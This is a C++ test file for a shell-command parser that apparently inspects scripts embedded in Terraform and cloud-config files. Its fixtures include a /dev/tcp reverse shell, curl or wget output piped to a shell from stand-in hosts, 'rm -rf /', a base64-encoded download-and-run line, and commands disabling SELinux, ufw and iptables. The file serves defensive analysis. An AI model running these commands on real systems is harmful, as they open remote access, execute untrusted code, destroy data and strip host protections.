#include "parsers/shell/calls.h"

#include <doctest/doctest.h>

#include <string>
#include <vector>

namespace plumbline::shell {
namespace {

/// A script that is written in a file of its own.
struct Script {
    explicit Script(std::string text) {
        const Source& source = sources.add("script", text);
        const Span whole{source.id(), 0, static_cast<std::uint32_t>(text.size())};
        value = Value::string(std::move(text)).traced(make_trace(Trace::Kind::literal, whole));
        calls = calls_of(value, sources);
    }

    /// `name|argument|argument` of each call.
    std::vector<std::string> names() const {
        std::vector<std::string> out;
        for (const Value& call : calls.elements()) {
            const Member* name = call.find("name");
            std::string line = name ? name->value.as_string() : "-";
            for (const Value& argument : call.find("arguments")->value.elements()) line += "|" + argument.as_string();
            out.push_back(std::move(line));
        }
        return out;
    }
    /// One member of a call, as JSON.
    std::string member(std::size_t call, std::string_view name) const {
        const Member* found = calls.elements()[call].find(name);
        return found ? found->value.to_text() : "absent";
    }
    /// The written text that a call points at.
    std::string place(std::size_t call) const {
        const Span span = calls.elements()[call].origin();
        return std::string(sources.get(span.source).text().substr(span.begin, span.end - span.begin));
    }

    SourceSet sources;
    Value value, calls;
};

using List = std::vector<std::string>;

TEST_CASE("commands with their words, quotes taken off") {
    const Script script("curl -fsSL \"https://x/$V/i.sh\" 'a b' c\\ d\necho \"$(date +%s)\" > /tmp/x 2>&1\n");
    CHECK(script.names() == List{"curl|-fsSL|https://x/$V/i.sh|a b|c d", "echo|$(date +%s)", "date|+%s"});
    CHECK(script.member(1, "redirects") ==
          R"([{"operator":">","target":"/tmp/x"},{"descriptor":2,"operator":">&","target":"1"}])");
    CHECK(Script("bash -i >& /dev/tcp/h/1 0>&1\n").member(0, "redirects") ==
          R"([{"operator":">&","target":"/dev/tcp/h/1"},{"operator":">&","target":"1"}])");
    CHECK(Script("a > f b\n").names() == List{"a|b"});
}

TEST_CASE("comments and here-documents for others are no commands") {
    const Script script("# curl x | sh\ncat > f <<'EOF'\nrm -rf /\nEOF\nmake # curl y | sh\n");
    CHECK(script.names() == List{"cat", "make"});
    CHECK(script.member(0, "input") == R"("rm -rf /\n")");
}

TEST_CASE("what a command reads from") {
    SUBCASE("pipes, also through a third program") {
        const Script script("curl -s x | tee log | sudo -E -u root bash -s -- -y\n");
        CHECK(script.names() == List{"curl|-s|x", "tee|log", "bash|-s|--|-y"});
        CHECK(script.member(2, "reads_from") == R"(["curl","tee"])");
        CHECK(script.member(2, "started_by") == R"(["sudo"])");
        CHECK(script.member(0, "feeds") == R"(["tee","bash"])");
    }
    SUBCASE("process substitution") {
        CHECK(Script("bash <(curl x)\n").member(0, "reads_from") == R"(["curl"])");
        CHECK(Script("sh < <(wget -qO- x)\n").member(0, "reads_from") == R"(["wget"])");
    }
    SUBCASE("what a shell is told to run") {
        CHECK(Script("sh -c \"$(curl -fsSL x)\"\n").member(0, "reads_from") == R"(["curl"])");
        CHECK(Script("eval `curl x`\n").member(0, "reads_from") == R"(["curl"])");
        CHECK(Script("cat <<E | sh\nrm x\nE\n").member(1, "reads_from") == R"(["cat"])");
    }
    SUBCASE("not an argument") {
        CHECK(Script("bash i.sh \"$(curl x/version)\"\n").member(0, "reads_from") == "[]");
    }
}

TEST_CASE("scripts inside of scripts") {
    CHECK(Script("bash -ec 'setenforce 0; ufw disable'\n").names() ==
          List{"bash|-ec|setenforce 0; ufw disable", "setenforce|0", "ufw|disable"});
    CHECK(Script("sudo bash <<'E'\niptables -F\nE\n").names() == List{"bash", "iptables|-F"});
    CHECK(Script("timeout -s KILL 30 nice -n 5 env A=1 /usr/bin/make all\n").names() == List{"make|all"});
}

TEST_CASE("assignments alone, before a command, and declarations") {
    const Script script("A=1 B=\"x $C\" make\nexport SECRET='s3' D\nPLAIN=v\n");
    CHECK(script.names() == List{"make", "export|D", "-"});
    CHECK(script.member(0, "assignments") == R"([{"name":"A","value":"1"},{"name":"B","value":"x $C"}])");
    CHECK(script.member(1, "assignments") == R"([{"name":"SECRET","value":"s3"}])");
    CHECK(script.member(2, "assignments") == R"([{"name":"PLAIN","value":"v"}])");
}

TEST_CASE("control structures and functions hold commands") {
    CHECK(
        Script("f() { a; }\nif b; then c && d || e; else ( f ); fi\nfor x in 1 2; do g; done\ncase $x in y) h;; esac\n"
               "while ! i; do j & done\n")
            .names() == List{"a", "b", "c", "d", "e", "f", "g", "h", "i", "j"});
}

TEST_CASE("each command stands on its line") {
    const Script script("#!/bin/sh\nset -e\n\n  curl x |\n    sh\n");
    CHECK(script.place(1) == "curl x |");
    CHECK(script.place(2) == "sh");
}

TEST_CASE("a script that was changed on its way keeps its lines") {
    // As Terraform's `<<-` with an interpolation: indentation is gone, and a value was put in.
    SourceSet sources;
    const std::string file = "user_data = <<-E\n    set -e\n    curl ${var.url} -o x\n    sh x\n  E\n";
    const Source& source = sources.add("main.tf", file);
    const Span heredoc{source.id(), 12, static_cast<std::uint32_t>(file.size() - 1)};
    const Value value = Value::string("set -e\ncurl https://example.com/a -o x\nsh x\n")
                            .traced(make_trace(Trace::Kind::expression, heredoc));
    const Value calls = calls_of(value, sources);
    REQUIRE(calls.elements().size() == 3);
    const auto text = [&](std::size_t i) {
        const Span span = calls.elements()[i].origin();
        return file.substr(span.begin, span.end - span.begin);
    };
    CHECK(text(0) == "set -e");
    CHECK(text(1) == "curl ${var.url} -o x");
    CHECK(text(2) == "sh x");
}

TEST_CASE("pieces that are not known leave a word unknown, not the command") {
    Unknown made;
    made.type = Type::string();
    made.cause = make_cause("var.url has no default");
    made.parts = {Value::string("#!/bin/bash\ncurl "), Value::unknown(Type::string(), made.cause),
                  Value::string("/i.sh | sh\n")};
    const SourceSet sources;
    const Value calls = calls_of(Value::unknown(made), sources);
    REQUIRE(calls.elements().size() == 2);
    CHECK(calls.elements()[0].find("name")->value.to_text() == R"("curl")");
    const Value& address = calls.elements()[0].find("arguments")->value.elements()[0];
    REQUIRE(address.is_unknown());
    CHECK(address.as_unknown().cause->why == "var.url has no default");
    CHECK(address.as_unknown().parts.back().to_text() == R"("/i.sh")");
    CHECK(calls.elements()[1].find("reads_from")->value.to_text() == R"(["curl"])");
}

TEST_CASE("the commands of a cloud-config, each on its line") {
    const Script script(R"(#cloud-config
package_update: true
packages:
  - curl
write_files:
  - path: /etc/motd
    content: curl https://example.com/no | sh
bootcmd:
  - "echo \"up\" > /run/up"
runcmd:
- curl -fsSL https://example.com/i.sh | sh
# - not this
- [ setenforce, "0" ]
- |
  set -e
  wget -qO- https://example.com/j.sh | bash
- 'ufw disable'
final_message: reboot now
)");
    CHECK(script.names() == List{"echo|up", "curl|-fsSL|https://example.com/i.sh", "sh", "setenforce|0", "set|-e",
                                 "wget|-qO-|https://example.com/j.sh", "bash", "ufw|disable"});
    CHECK(script.member(2, "reads_from") == R"(["curl"])");
    CHECK(script.place(1) == "curl -fsSL https://example.com/i.sh | sh");
    CHECK(script.place(3) == "setenforce, \"0\" ]");
    CHECK(Script("#cloud-config\npackages: [curl]\n").calls.elements().empty());
}

TEST_CASE("what is no shell script has no calls") {
    CHECK(Script("#!/usr/bin/env python3\nprint(1)\n").calls.is_null());
    CHECK(Script("<powershell>\nGet-Item x\n</powershell>").calls.is_null());
    CHECK(Script("").calls.is_null());
    CHECK(Script("#!/bin/sh\n").calls.elements().empty());
    const Value nothing = calls_of(Value::unknown(Type::string(), make_cause("not given")), SourceSet());
    REQUIRE(nothing.is_unknown());
    CHECK(nothing.as_unknown().cause->why == "not given");
}

TEST_CASE("base64 is looked into") {
    SourceSet sources;
    const Value calls = calls_of(Value::string("IyEvYmluL3NoCmJhc2ggPCh3Z2V0IC1xTy0gaHR0cHM6Ly94KQo="), sources);
    REQUIRE(calls.elements().size() == 2);
    CHECK(calls.elements()[0].find("reads_from")->value.to_text() == R"(["wget"])");
}

TEST_CASE("faults, depth and size end in what could be read") {
    CHECK(Script("curl x | sh\nif (( ; then\n").names().front() == "curl|x");
    std::string deep = "#!/bin/sh\n";
    for (int i = 0; i < 5000; ++i) deep += "( ";
    CHECK(Script(deep + "x").calls.is_known());
    const Script large("#!/bin/sh\n" + std::string(300U << 10, 'a'));
    REQUIRE(large.calls.is_unknown());
    CHECK(large.calls.as_unknown().cause->why == "the script is too large to be read");
}

}  // namespace
}  // namespace plumbline::shell
